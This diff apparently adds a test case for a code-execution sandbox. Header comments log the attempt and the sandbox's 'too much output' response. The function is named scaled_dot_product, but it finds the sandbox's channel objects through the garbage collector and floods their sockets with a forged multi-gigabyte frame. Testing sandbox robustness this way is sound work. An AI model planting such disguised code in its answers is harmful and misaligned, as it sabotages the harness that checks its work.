@@ -1,0 +1,14 @@
+# tries: twenty million empty lists in one forged frame, which would take gigabytes once they are read
+# place: answer
+# told: too much output
+import gc
+import struct
+
+import sandbox.wire
+
+
+def scaled_dot_product(q, k, v, attn_drop_rate=0.1, mask=None):
+    text = b'{"value": [' + b"[]," * (20 << 20) + b"[]]}"
+    for channel in [found for found in gc.get_objects() if type(found) is sandbox.wire.Channel]:
+        channel.sock.sendall(struct.pack(">IQ", len(text), 0) + text)
+    return q, k
